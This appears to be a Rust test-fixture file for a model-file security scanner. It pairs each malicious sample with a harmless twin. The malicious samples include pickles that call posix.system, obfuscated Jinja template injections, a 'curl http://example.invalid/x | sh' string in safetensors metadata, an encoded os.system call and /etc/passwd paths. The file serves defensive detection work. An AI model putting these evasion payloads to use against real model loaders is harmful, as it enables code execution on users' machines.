//! Attacks that once went unseen, one kind an entry, each with its innocent twin: the same shape without the
//! intent. A twin has to be clean, not only free of what blocks.
#![expect(clippy::too_many_lines, reason = "lists of samples, one an entry")]

use super::{Label, Sample};

/// Twins are counted under this word.
pub(super) const TWIN: &str = "twin";

const CALL: &[u8] = b"\x80\x02cposix\nsystem\nX\x04\0\0\0echo\x85R.";
const IMPORTS: &[&str] = &["pickle-imports-denied-name", "pickle-calls-denied-name"];
const RESULT: &[&str] = &["pickle-calls-result"];
const TEMPLATE: &[&str] = &["template-reaches-internals"];

fn bad(name: &str, bytes: impl Into<Vec<u8>>, expected: &'static [&'static str]) -> Sample {
    Sample {
        label: Label::Malicious,
        format: "missed once".to_owned(),
        name: name.to_owned(),
        bytes: bytes.into(),
        expected,
    }
}

fn twin(name: &str, bytes: impl Into<Vec<u8>>) -> Sample {
    Sample { label: Label::Benign, format: TWIN.to_owned(), ..bad(name, bytes, &[]) }
}

/// All of them.
pub(super) fn all() -> Vec<Sample> {
    [choosers(), carried(), frames(), templates(), python(), metadata(), graphs()].concat()
}

/// `getattr` and `itemgetter`, which ordinary objects use too.
fn choosers() -> Vec<Sample> {
    let many = |last: &str| {
        let harmless = "cbuiltins\ngetattr\n(cbuiltins\nstr\nS'split'\ntR0".repeat(6);
        format!("{harmless}cbuiltins\ngetattr\n(cbuiltins\nstr\nS'{last}'\ntR.")
    };
    let tenth = "cbuiltins\ngetattr\n(cbuiltins\nstr\nS'split'\ntR(S'a b'\ntR.";
    let chain =
        "cbuiltins\ngetattr\n(cbuiltins\ngetattr\n(ccollections\nOrderedDict\nS'x'\ntRS'y'\ntR.";
    vec![
        bad("getattr-only.pkl", "cbuiltins\ngetattr\n.", IMPORTS),
        bad("getattr-text.pkl", "cbuiltins\ngetattr\n(S'echo'\ntR.", IMPORTS),
        bad(
            "getattr-internal.pkl",
            "cbuiltins\ngetattr\n(cbuiltins\nstr\nS'__class__'\ntR.",
            IMPORTS,
        ),
        bad("getattr-internal-sixth.pkl", many("__class__"), IMPORTS),
        bad(
            "getattr-computed.pkl",
            "cbuiltins\ngetattr\n(cbuiltins\nstr\ncmath\nsqrt\n(I4\ntRtR.",
            IMPORTS,
        ),
        bad("getattr-of-denied.pkl", "cbuiltins\ngetattr\n(cos\nsystem\nS'x'\ntR.", IMPORTS),
        bad("getattr-twice.pkl", chain, IMPORTS),
        bad("getattr-called.pkl", tenth, RESULT),
        bad(
            "getattr-changed.pkl",
            "\u{2}cbuiltins\ngetattr\n(ccollections\nOrderedDict\nS'x'\ntR(S'a'\nI1\ndb."
                .as_bytes()[1..]
                .to_vec(),
            IMPORTS,
        ),
        bad("itemgetter-internal.pkl", "coperator\nitemgetter\n(S'__globals__'\ntR.", IMPORTS),
        bad(
            "itemgetter-called.pkl",
            "coperator\nitemgetter\n(S'system'\ntR(ccollections\nOrderedDict\ntR.",
            RESULT,
        ),
        bad("itemgetter-only.pkl", "coperator\nitemgetter\n.", IMPORTS),
        bad("getattr-format.pkl", "cbuiltins\ngetattr\n(S'{0.x}'\nS'format'\ntR.", IMPORTS),
        twin("getattr-upper.pkl", "cbuiltins\ngetattr\n(S'abc'\nS'upper'\ntR."),
        bad("http-server.pkl", "chttp.server\ntest\n(tR.", IMPORTS),
        twin("http-status.pkl", "chttp\nHTTPStatus\n(I200\ntR."),
        bad("partial-fifth.pkl", partials("cnobody\nknows\n"), &["pickle-imports-unknown-name"]),
        bad(
            "method-called.pkl",
            "cpathlib\nPosixPath.unlink\n(S'x'\ntR.",
            IMPORTS,
        ),
        bad("vectorize-called.pkl", "cnumpy\nvectorize\n(cnobody\nknows\ntR.", IMPORTS),
        bad("dill-code-type.pkl", "cdill._dill\n_load_type\n(S'CodeType'\ntR(I1\ntR.", IMPORTS),
        bad("dill-type-computed.pkl", "cdill._dill\n_load_type\n(cmath\nsqrt\n(I4\ntRtR.", IMPORTS),
        bad(
            "nested-code.pkl",
            [&b"\x80\x03C"[..], &[u8::try_from(CALL.len()).expect("short")], CALL, b"."].concat(),
            IMPORTS,
        ),
        bad(
            "class-called.pkl",
            "ctorch.nn.modules.module\n_WrappedHook\n(S'x'\ntR.",
            &["pickle-imports-unknown-name"],
        ),
        bad(
            "class-called-fifth.pkl",
            built("torch.nn.modules.module", "_WrappedHook"),
            &["pickle-imports-unknown-name"],
        ),
        twin(
            "class-made.pkl",
            b"\x80\x02ctorch.nn.modules.module\n_WrappedHook\n)\x81}X\x01\0\0\0aK\x01sb.".to_vec(),
        ),
        twin(
            "vectorize-kept.pkl",
            b"\x80\x02cnumpy\nvectorize\n)\x81}X\x01\0\0\0aK\x01sb.".to_vec(),
        ),
        twin("dill-slice.pkl", "cdill._dill\n_load_type\n(S'slice'\ntR(I1\nI2\nNtR."),
        twin(
            "zone.pkl",
            "cbuiltins\ngetattr\n(czoneinfo\nZoneInfo\nS'_unpickle'\ntR(S'Europe/Berlin'\nI01\ntR.",
        ),
        twin("storage.pkl", storage()),
        // A class inside of a class, as protocol 2 writes the members of an enumeration.
        bad(
            "nested-class-of-nobody.pkl",
            "cbuiltins\ngetattr\n(cmine\nThing\nS'Popen'\ntR(S'echo'\ntR.",
            IMPORTS,
        ),
        bad(
            "nested-class-called-with-two.pkl",
            "cbuiltins\ngetattr\n(cformulaic.parser.types.factor\nFactor\nS'Kind'\ntR(S'a'\nS'b'\ntR.",
            RESULT,
        ),
        bad(
            "method-like-nested-class.pkl",
            "cbuiltins\ngetattr\n(cformulaic.parser.types.factor\nFactor\nS'kind'\ntR(S'a'\ntR.",
            RESULT,
        ),
        twin(
            "nested-enumeration.pkl",
            "cbuiltins\ngetattr\n(cformulaic.parser.types.factor\nFactor\nS'Kind'\ntR(S'unknown'\ntR.",
        ),
        // A bound method is as harmless as the method, and as long as nobody calls it.
        bad("bound-program.pkl", "ctypes\nMethodType\n(cos\nsystem\nS'echo'\ntR.", IMPORTS),
        bad(
            "bound-after-harmless.pkl",
            "ctypes\nMethodType\n(ccollections\nOrderedDict.keys\nNtR0ctypes\nMethodType\n(S'echo'\nNtR.",
            IMPORTS,
        ),
        bad(
            "bound-and-called.pkl",
            "ctypes\nMethodType\n(ccollections\nOrderedDict.keys\nNtR(S'echo'\ntR.",
            RESULT,
        ),
        twin(
            "bound-method.pkl",
            "ctypes\nMethodType\n(ccollections\nOrderedDict.keys\nccollections\nOrderedDict\n)RtR.",
        ),
        // A file system of the machine itself, as trainers keep it, and what would be called on it.
        bad(
            "file-system-acts.pkl",
            "cbuiltins\ngetattr\n(cfsspec.spec\nmake_instance\n(cfsspec.implementations.local\nLocalFileSystem\n(t(dtRS'rm'\ntR(S'x'\ntR.",
            RESULT,
        ),
        bad(
            "file-system-elsewhere.pkl",
            "cfsspec.spec\nmake_instance\n(cfsspec.implementations.http\nHTTPFileSystem\n(t(dtR.",
            IMPORTS,
        ),
        twin(
            "file-system.pkl",
            "cfsspec.spec\nmake_instance\n(cfsspec.implementations.local\nLocalFileSystem\n(t(dtR.",
        ),
        // An object of a known class that makes a class, and one that nobody read.
        bad(
            "unknown-object-called.pkl",
            &b"\x80\x02ctorch_geometric.data.data\nData\n)\x81(S'x'\ntR."[..],
            RESULT,
        ),
        twin(
            "known-object-called.pkl",
            &b"\x80\x02ctorch_geometric.data.batch\nDynamicInheritanceGetter\n)\x81(ctorch_geometric.data.batch\nBatch\nctorch_geometric.data.data\nData\ntR."[..],
        ),
        // Functions that aggregate are kept, and not called.
        bad("sum-called.pkl", "cbuiltins\nsum\n((lp0\ntR.", IMPORTS),
        bad("counter-drained.pkl", "cbuiltins\nlist\n(citertools\ncount\n(I0\ntRtR.", &["pickle-drains-iterator"]),
        bad(
            "method-that-loads.pkl",
            "csklearn.linear_model._logistic\nLogisticRegression.from_pretrained\n(S'org/x'\ntR.",
            IMPORTS,
        ),
        twin("sum-kept.pkl", "\u{2}\u{80}cbuiltins\nsum\n.".chars().skip(2).collect::<String>()),
        twin("counter.pkl", "citertools\ncount\n(I7\ntR."),
        twin("nothing.pkl", "ccontextlib\nnullcontext\n(tR."),
        twin("str-split.pkl", "cbuiltins\ngetattr\n(cbuiltins\nstr\nS'split'\ntR."),
        twin("own-method.pkl", "cbuiltins\ngetattr\n(ccollections\nOrderedDict\n)RS'keys'\ntR."),
        twin(
            "method-named.pkl",
            "\u{2}\u{80}cbuiltins\nstr.split\n.".chars().skip(2).collect::<String>(),
        ),
        twin("itemgetter.pkl", "coperator\nitemgetter\n(I1\nS'name'\ntR."),
        twin("partials.pkl", partials("cmath\nexp\n")),
    ]
}

/// Five objects made without their constructor, then one with it.
fn built(module: &str, name: &str) -> Vec<u8> {
    let mut out = b"\x80\x02".to_vec();
    for _ in 0..5 {
        out.extend(format!("c{module}\n{name}\n").into_bytes());
        out.extend(b")\x810");
    }
    out.extend(format!("c{module}\n{name}\n(S'x'\ntR.").into_bytes());
    out
}

/// A pickled tensor: the bytes of its storage are a pickle, and numbers follow.
fn storage() -> Vec<u8> {
    let inner = b"\x80\x02ccollections\nOrderedDict\n)R.\0\0\x80\x3f";
    let length = u8::try_from(inner.len()).expect("short");
    [b"\x80\x03ctorch.storage\n_load_from_bytes\nC", &[length][..], inner, b"\x85R."].concat()
}

/// Five waiting calls of harmless functions, then one of this.
fn partials(last: &str) -> Vec<u8> {
    let one = |of: &str| format!("cfunctools\npartial\n({of}tR0");
    let harmless = one("cmath\nsqrt\n").repeat(5);
    format!("{harmless}cfunctools\npartial\n({last}tR.").into_bytes()
}

/// A function as numba saves it, with one thing changed at a time. As it is, it is told as code and stays in
/// `benign/`.
fn carried() -> Vec<Sample> {
    let whole: &[u8] = include_bytes!("../../fixtures/models/benign/pickle/numba-function.pkl");
    let from = memchr::memmem::find_iter(whole, b"\x80\x04").nth(1).expect("one in the other");
    let end = memchr::memmem::rfind(whole, b"\x94\x85\x94R\x94\x85").expect("numba's own end");
    let inner = &whole[from..end];
    let rebuilt = |inner: &[u8], last: &[u8]| {
        let length = u32::try_from(inner.len()).expect("short").to_le_bytes();
        let head = b"\x80\x03cnumba.core.serialize\ncustom_rebuild\n(cnumba.core.serialize\n_unpickle__CustomPickled\n(B";
        [head, &length[..], inner, b"tRtR", last].concat()
    };
    let with = |old: &[u8], new: &[u8]| {
        assert_eq!(old.len(), new.len(), "frames tell their length");
        let at = memchr::memmem::find(inner, old).expect("it is there");
        rebuilt(&[&inner[..at], new, &inner[at + new.len()..]].concat(), b".")
    };
    let setstate = b"0cnumba.cloudpickle.cloudpickle\n_function_setstate\n(cjson\nloads\n((d(dttR.";
    let many = b"0cnumba.cloudpickle.cloudpickle\nsubimport\n(S'numpy'\ntR".repeat(6);
    let import = b"0cnumba.cloudpickle.cloudpickle\nsubimport\n(S'posix'\ntR.";
    vec![
        bad("numba-names-eval.pkl", with(b"sqrt", b"eval"), IMPORTS),
        bad("numba-imports-program.pkl", with(b"numpy", b"posix"), IMPORTS),
        bad("numba-other-type.pkl", with(b"CodeType", b"CellType"), RESULT),
        bad("numba-called.pkl", rebuilt(inner, b")R."), RESULT),
        bad("numba-changes-others.pkl", rebuilt(inner, setstate), IMPORTS),
        bad("numba-seventh-import.pkl", rebuilt(inner, &[&many[..], import].concat()), IMPORTS),
        bad("numba-hides.pkl", rebuilt(b"I1\n0cposix\nsystem\n(S'echo'\ntR.", b"."), IMPORTS),
        bad("numba-waits.pkl", rebuilt(inner, b"0cfunctools\npartial\n(h\0tR."), IMPORTS),
        bad("numba-no-code.pkl", rebuilt(b"\x80\x04}.", b"."), IMPORTS),
        bad("cloudpickle-alone.pkl", inner, IMPORTS),
    ]
}

/// Frames that begin with a block to be skipped.
fn frames() -> Vec<Sample> {
    let zstd = |inner: &[u8]| {
        let length = u8::try_from(inner.len()).expect("short");
        let block = (u32::from(length) << 3 | 1).to_le_bytes();
        [&[0x28, 0xb5, 0x2f, 0xfd, 0x20, length], &block[..3], inner].concat()
    };
    let lz4 = |inner: &[u8]| {
        let length = u32::try_from(inner.len()).expect("short") | 1 << 31;
        let head = [0x04, 0x22, 0x4d, 0x18, 0x60, 0x40, 0x82];
        [&head, &length.to_le_bytes()[..], inner, &[0; 4]].concat()
    };
    let skipped = |rest: Vec<u8>| {
        let head = [0x5e, 0x2a, 0x4d, 0x18, 5, 0, 0, 0, b'h', b'e', b'l', b'l', b'o'];
        [&head[..], &rest].concat()
    };
    let plain = b"\x80\x02}q\0X\x01\0\0\0aK\x01s.";
    vec![
        bad("skippable.zst", skipped(zstd(CALL)), &["pickle-calls-denied-name"]),
        bad("skippable-twice.zst", skipped(skipped(zstd(CALL))), &["pickle-calls-denied-name"]),
        bad("skippable.lz4", skipped(lz4(CALL)), &["pickle-calls-denied-name"]),
        twin("skippable-plain.zst", skipped(zstd(plain))),
        twin("skippable-plain.lz4", skipped(lz4(plain))),
    ]
}

fn templates() -> Vec<Sample> {
    let json = |key: &str, text: &str| format!("{{\"{key}\": \"{text}\"}}");
    let points = "{{ x['%c%cclass%c%c' % (95, 95, 95, 95)] }}";
    vec![
        bad("code-points.jinja", points, TEMPLATE),
        bad("format-points.jinja", "{{ x|attr('{:c}{:c}init__'.format(95, 95)) }}", TEMPLATE),
        bad("numbered-points.jinja", "{{ x|attr('{0:c}{1:c}init__'.format(95, 95)) }}", TEMPLATE),
        bad("filter-points.jinja", "{{ x|attr('%c_globals__'|format(95)) }}", TEMPLATE),
        bad("sliced.jinja", "{{ x['__class__zzz'[:-3]] }}", TEMPLATE),
        bad("stepped.jinja", "{{ x['_z_zczlzazszsz_z_'[::2]] }}", TEMPLATE),
        bad("processor_config.json", json("chat_template", "{{ x.__class__.__mro__ }}"), TEMPLATE),
        bad("chat_template.json", json("chat_template", points), TEMPLATE),
        bad("chat_template.txt", "{% if x %}{{ x.__globals__ }}{% endif %}", TEMPLATE),
        bad("additional_chat_templates/tool.jinja", "{{ x.__subclasses__() }}", TEMPLATE),
        twin("numbers.jinja", "{{ 'step %d of %d' % (1, 3) }}{{ '{:x}'.format(255) }}"),
        twin("last.jinja", "{% for m in messages[1:] %}{{ m['content'][:-1] }}{% endfor %}"),
        twin("plain/chat_template.json", json("chat_template", "{{ messages[0]['content'] }}")),
        twin("plain/prompt_template.txt", "{% if system %}{{ system }}{% endif %}"),
    ]
}

fn python() -> Vec<Sample> {
    let many = |last: &str| {
        let names = (0..21_000).fold(String::new(), |text, n| text + &format!("n{n} = {n}\n"));
        format!("{names}import os\ngo = os.system\n{last}\n")
    };
    vec![
        bad(
            "modeling_returns.py",
            "# a comment\rimport os\ros.system('echo')\r",
            &["python-acts-on-import"],
        ),
        bad("modeling_many.py", many("go('echo')"), &["python-acts-on-import"]),
        twin("modeling_quiet.py", "# a comment\rimport torch\rx = 1\r"),
        twin(
            "modeling_names.py",
            (0..21_000).fold(String::new(), |text, n| text + &format!("n{n} = {n}\n")),
        ),
    ]
}

/// Text beside weights.
fn metadata() -> Vec<Sample> {
    let safetensors = |text: &str| {
        let head = format!(r#"{{"__metadata__":{{"note":"{text}"}}}}"#);
        [&(head.len() as u64).to_le_bytes()[..], head.as_bytes()].concat()
    };
    let gguf = |text: &str| {
        let entry = |key: &str, value: &str| {
            let mut out = (key.len() as u64).to_le_bytes().to_vec();
            out.extend(key.as_bytes());
            out.extend(8_u32.to_le_bytes());
            out.extend((value.len() as u64).to_le_bytes());
            out.extend(value.as_bytes());
            out
        };
        let mut out = b"GGUF\x03\0\0\0".to_vec();
        out.extend(0_u64.to_le_bytes());
        out.extend(2_u64.to_le_bytes());
        out.extend(entry("general.architecture", "llama"));
        out.extend(entry("custom.note", text));
        out.resize(out.len().next_multiple_of(32), 0);
        out
    };
    let commands: &[&str] = &["metadata-holds-commands"];
    vec![
        bad("command.safetensors", safetensors("curl http://example.invalid/x | sh"), commands),
        bad("import.safetensors", safetensors("import os; os.system('echo')"), commands),
        bad(
            "encoded.safetensors",
            safetensors("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2VjaG8gaGVsbG8gd29ybGQnKQ=="),
            commands,
        ),
        bad("path.safetensors", safetensors("../../../etc/passwd"), &["metadata-holds-paths"]),
        bad("command.gguf", gguf("bash -c 'echo'"), commands),
        bad("path.gguf", gguf("file:///etc/hosts"), &["metadata-holds-paths"]),
        twin("note.safetensors", safetensors("trained on /data/images for 3 epochs")),
        twin("note.gguf", gguf("a quantization of a model, made by hand")),
    ]
}

/// Operators that call Python, layers in the metadata of Keras, paths that leave the folder.
fn graphs() -> Vec<Sample> {
    let bytes = |field: u8, value: &[u8]| {
        let mut out = vec![field << 3 | 2];
        let mut length = value.len();
        while length >= 0x80 {
            out.push(u8::try_from(length & 0x7f).expect("seven bits") | 0x80);
            length >>= 7;
        }
        out.push(u8::try_from(length).expect("seven bits"));
        out.extend(value);
        out
    };
    let graph = |operator: &str| {
        let node = |name: &str, operator: &str| {
            bytes(1, &[bytes(1, name.as_bytes()), bytes(2, operator.as_bytes())].concat())
        };
        [node("input", "Placeholder"), node("call", operator)].concat()
    };
    let keras = |class: &str, config: &str| {
        let text = format!(r#"{{"class_name": "{class}", "name": "l", "config": {{{config}}}}}"#);
        let node = [
            vec![0x10, 1],
            bytes(3, b"root.layer-0"),
            bytes(4, b"_tf_keras_layer"),
            bytes(5, text.as_bytes()),
        ];
        bytes(1, &node.concat())
    };
    let lambda = r#""name": "l", "function": {"class_name": "__tuple__", "items": ["4wEAAAA=", null, null]}, "function_type": "lambda""#;
    let index = |file: &str| format!(r#"{{"metadata": {{}}, "weight_map": {{"a": "{file}"}}}}"#);
    vec![
        bad("pyfunc.pb", graph("PyFunc"), &["model-runs-python"]),
        bad("eager.pb", graph("EagerPyFunc"), &["model-runs-python"]),
        bad(
            "keras_metadata.pb",
            keras("Lambda", lambda),
            &["keras-lambda", "keras-lambda-can-run-programs"],
        ),
        bad(
            "leaves/model.safetensors.index.json",
            index("../x.safetensors"),
            &["model-path-escapes"],
        ),
        twin("matmul.pb", graph("MatMul")),
        twin("plain/keras_metadata.pb", keras("Dense", r#""name": "l", "units": 3"#)),
        twin("stays/model.safetensors.index.json", index("a/../x.safetensors")),
    ]
}
